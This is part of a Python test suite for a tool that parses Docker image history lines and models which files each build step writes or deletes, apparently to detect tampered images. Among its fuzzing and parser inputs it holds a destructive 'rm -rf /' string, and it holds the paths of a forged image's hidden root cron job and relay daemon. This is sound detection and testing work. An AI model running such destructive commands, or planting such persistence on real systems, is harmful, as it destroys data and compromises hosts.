    assert ACCOUNT_FILES <= alpine.written_paths and "/home/app" in alpine.homes
    debian = run_effects("adduser --system --group --no-create-home svc")
    assert not debian.written_trees


def test_system_databases():
    fx = run_effects(
        "ldconfig && update-ca-certificates && locale-gen en_US.UTF-8 && update-alternatives --install /usr/bin/java java /opt/jdk/bin/java 1"
    )
    assert "/etc/ld.so.cache" in fx.written_paths
    assert fx.explains("/etc/ssl/certs/ca-certificates.crt")
    assert fx.explains("/usr/lib/locale/locale-archive")
    assert fx.explains("/etc/alternatives/java") and "/usr/bin/java" in fx.written_paths
    assert not fx.opaque


def test_find_and_xargs():
    fx = run_effects("find /usr/local -depth \\( -name '*.pyc' -o -name '*.pyo' \\) -exec rm -rf '{}' +")
    assert fx.deleted_paths == {"/usr/local/*"}
    assert fx.explains("/usr/local/lib/python3.12/x.pyc", "deleted")
    assert not fx.explains("/usr/local/bin/new", "added")
    assert run_effects("find /tmp -type f -delete").deleted_paths == {"/tmp/*"}
    piped = run_effects("find /opt -name '*.a' | xargs rm -f")
    assert piped.deleted_paths == {"/opt/*"} and not piped.opaque
    assert run_effects("cat list | xargs rm -f").opaque


def test_variables_and_mktemp():
    fx = run_effects('DIR=/opt/tool; mkdir -p "$DIR/bin" && touch ${DIR}/bin/x ${PREFIX:-/usr/local}/etc/y')
    assert fx.written_paths == {"/opt/tool/bin", "/opt/tool/bin/x", "/usr/local/etc/y"}
    unknown = run_effects("mkdir -p /opt/$APP/bin")
    assert unknown.written_paths == {"/opt/*/bin"} and "/opt/*/bin" in unknown.globs
    assert unknown.explains("/opt/myapp/bin")
    lost = run_effects('rm -rf "$TMPDIR"')  # where? cannot be placed
    assert lost.opaque and not lost.deleted_paths
    tmp = run_effects('d="$(mktemp -d)"; cd "$d"; touch x')
    assert tmp.written_paths == {"/tmp/tmp.*/x"}


def test_escaped_semicolon_is_a_word():
    toks = tokenize("find / -exec echo {} \\; ; echo done")
    words = [t.text for t in toks]
    assert words == ["find", "/", "-exec", "echo", "{}", ";", ";", "echo", "done"]
    assert [t.op for t in toks][5:7] == [False, True]
    assert split_words("a 'b c' \"d $e\" f\\ g") == ["a", "b c", "d $e", "f g"]


def test_explains_parents_and_globs():
    fx = run_effects("mkdir -p /a/b/c && rm -rf /var/cache/apk/* && chmod +x /usr/local/bin/*.sh")
    assert fx.explains("/a") and fx.explains("/a/b") and fx.explains("/a/b/c")
    assert not fx.explains("/a/b/c/d", "added")
    assert fx.explains("/var/cache/apk/APKINDEX.tar.gz", "deleted")
    assert fx.explains("/usr/local/bin/entry.sh", "modified")
    assert not fx.explains("/usr/local/bin/sub/entry.sh", "added")  # `*` stays in one segment
    assert not fx.explains("/etc/passwd")


def test_norm_path():
    assert norm_path("/a/./b/../c/") == "/a/c"
    assert norm_path("../../..", "/x") == "/"
    assert norm_path("rel/p", "/w") == "/w/rel/p"
    assert norm_path("//double//slash") == "/double/slash"
    assert norm_path("") == "/"
    assert norm_path("x", "relative-cwd") == "/relative-cwd/x"


# --------------------------------------------------------------------------- instruction_effects


def test_instruction_effects_copy_add_workdir():
    cp = instruction_effects(parsed("COPY docker-entrypoint.sh /usr/local/bin/ # buildkit"))
    assert cp.explains("/usr/local/bin/docker-entrypoint.sh")
    assert not cp.explains("/usr/local/bin/other", "added")
    rel = instruction_effects(parsed("COPY . . # buildkit"), workdir="/app")
    assert rel.explains("/app/src/main.py")
    add = instruction_effects(parsed("ADD alpine-minirootfs-3.19.tar.gz / # buildkit"))
    assert add.explains("/etc/alpine-release")  # local archives are extracted
    url = instruction_effects(parsed("ADD https://x/y.tar.gz /tmp/ # buildkit"))
    assert url.explains("/tmp/y.tar.gz") and not url.explains("/tmp/other", "added")
    wd = instruction_effects(parsed("/bin/sh -c #(nop) WORKDIR /srv/lantern"))
    assert wd.written_paths == {"/srv/lantern"}
    meta = instruction_effects(parsed('/bin/sh -c #(nop)  CMD ["sh"]'))
    assert not meta.written_paths and not meta.explains("/x", "added")
    run = instruction_effects(parsed("RUN |1 T=amd64 /bin/sh -c echo $T > /t.$T # buildkit"))
    assert run.written_paths == {"/t.amd64"}


# --------------------------------------------------------------------------- robustness


HOSTILE = [
    None,
    "",
    "\x00",
    "\x00" * 1000,
    "'",
    '"',
    "\\",
    "$(",
    "${",
    "`",
    "((((",
    "<<",
    "<<EOF",
    "|",
    "||",
    ";;",
    "/bin/sh -c",
    "/bin/sh -c ",
    "/bin/sh -c #(nop)",
    "/bin/sh -c #(nop) ",
    "/bin/sh -c #(nop)  COPY",
    "/bin/sh -c #(nop) COPY  in  ",
    "|",
    "|2",
    "|2 ",
    "|99999999999 A=1",
    "|1 =x /bin/sh -c y",
    "RUN",
    "RUN ",
    "COPY",
    "COPY # buildkit",
    " # buildkit",
    "RUN [",
    'RUN ["a", 1]',
    "RUN |1",
    "ADD --",
    "--",
    "--=",
    "/bin/sh -c echo 'unbalanced > /x",
    '/bin/sh -c echo "unbalanced > /x',
    "/bin/sh -c cd $(echo",
    "/bin/sh -c case x in",
    "/bin/sh -c for",
    "/bin/sh -c sudo",
    "/bin/sh -c xargs",
    "/bin/sh -c find / -exec",
    "/bin/sh -c tar -C",
    "/bin/sh -c cp",
    "/bin/sh -c ln -t",
    "/bin/sh -c useradd",
    "/bin/sh -c sed -i",
    "/bin/sh -c sh -c",
    "/bin/sh -c bash -o",
    "/bin/sh -c eval",
    "/bin/sh -c git clone",
    "/bin/sh -c curl -o",
    "\udcff surrogate",
    "🐳 RUN",
    "x" * 300_000,
    "/bin/sh -c " + "a && " * 30_000,
    "/bin/sh -c " + "'" * 100_001,
    "/bin/sh -c " + "$(" * 20_000,
    "/bin/sh -c " + "sh -c '" * 200,
    "RUN " + "[" * 100_000,
]


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_inputs_never_raise(value):
    for comment, author in [(None, None), ("buildkit.dockerfile.v0", ""), ("Imported from -", ""), ("", "kaniko")]:
        ins = parse_created_by(value, comment, author)
        assert isinstance(ins, Instruction)
        assert ins.raw == ("" if value is None else value)
        instruction_effects(ins, "/w", {"A": "1"})
    fx = run_effects(value, "/w")
    assert isinstance(fx, RunEffects)
    json.dumps(fx.model_dump(mode="json"))  # serializable for the report


def test_non_string_inputs():
    assert parse_created_by(123).raw == "123"  # type: ignore[arg-type]
    assert parse_created_by(None, 5, ["x"]).kind == "UNKNOWN"  # type: ignore[arg-type]
    assert isinstance(run_effects(None), RunEffects)
    assert isinstance(run_effects(b"rm -rf /", workdir=3), RunEffects)  # type: ignore[arg-type]


def test_random_fragments_never_raise():
    rng = random.Random(20240601)
    pieces = [
        "/bin/sh -c ",
        "#(nop) ",
        "#(nop)  ",
        "COPY ",
        "RUN ",
        "|2 A=1 B=2 ",
        " # buildkit",
        "$(",
        "${",
        "'",
        '"',
        "\\",
        "<<EOF\n",
        "EOF\n",
        "&&",
        "|",
        ";",
        "case x in ",
        "esac",
        " -c ",
        "sh",
        '["a",',
        "]",
        "--mount=x ",
        " in ",
        "file:ab ",
        "tar -x",
        " -C ",
        "cp ",
        "ln ",
        "find / -exec ",
        "{} ",
        "\\; ",
        "xargs ",
        "for x in ",
        "do ",
        "done",
        "rm -rf ",
        "cd ",
        " /x",
        " y/",
        "~",
        "*",
        "$HOME",
        "\n",
        ")",
    ]
    alphabet = string.printable + "\x00"
    for _ in range(1500):
        text = "".join(
            rng.choice(pieces)
            if rng.random() < 0.7
            else "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 5)))
            for _ in range(rng.randint(0, 12))
        )
        ins = parse_created_by(text, rng.choice([None, "buildkit.dockerfile.v0", "x"]), rng.choice([None, "kaniko"]))
        assert ins.raw == text
        fx = run_effects(text, rng.choice([None, "/app", "rel"]))
        assert all(p.startswith("/") for p in fx.written_paths | fx.named_paths | fx.deleted_paths | fx.written_trees)


# --------------------------------------------------------------------------- the shared corpus


def _corpus_history() -> list[dict]:
    seen, out = set(), []
    if not CORPUS.is_dir():
        return out
    for f in sorted(CORPUS.rglob("*.expected.json")):
        for image in json.loads(f.read_text()).get("images", []):
            for h in image.get("history", []):
                key = (h.get("created_by"), h.get("comment"), h.get("author"))
                if key not in seen:
                    seen.add(key)
                    out.append(h)
    return out


def test_every_corpus_history_line_parses_sensibly():
    history = _corpus_history()
    if not history:
        pytest.skip(f"shared corpus not found at {CORPUS}")
    for h in history:
        line = h.get("created_by")
        ins = parse_created_by(line, h.get("comment"), h.get("author"))
        if line == "bazel build ...":  # go-containerregistry fixture: free text
            assert ins.kind == "UNKNOWN"
            continue
        assert ins.kind != "UNKNOWN", line
        if h.get("empty_layer") and ins.kind not in ("WORKDIR", "RUN"):
            assert ins.metadata_only, line  # empty entries in the corpus are metadata steps
        if ins.kind == "RUN":
            fx = run_effects(ins.shell, "/", ins.build_args)
            assert not fx.opaque, (line, fx.opaque_reasons)
            assert fx.written_paths or fx.written_trees, line
        if ins.kind in ("COPY", "ADD"):
            assert ins.dest and ins.dest.startswith("/") and ins.sources, line


def test_tamper_record_of_the_seed_attack():
    truth = CORPUS / "attack" / "relay-forged.oci.tar.expected.json"
    if not truth.exists():
        pytest.skip("seed attack sample not in the corpus")
    tamper = json.loads(truth.read_text())["tamper"]
    shown = parse_created_by(tamper["genuine_created_by"])
    real = parse_created_by(tamper["real_created_by"])
    shown_fx, real_fx = run_effects(shown.shell), run_effects(real.shell)
    extra = {p for p in real_fx.written_paths if not shown_fx.explains(p, "added")}
    assert {"/etc/crontabs/root", "/usr/local/bin/relayd", "/usr/lib/.cache/.relayd-real"} <= extra
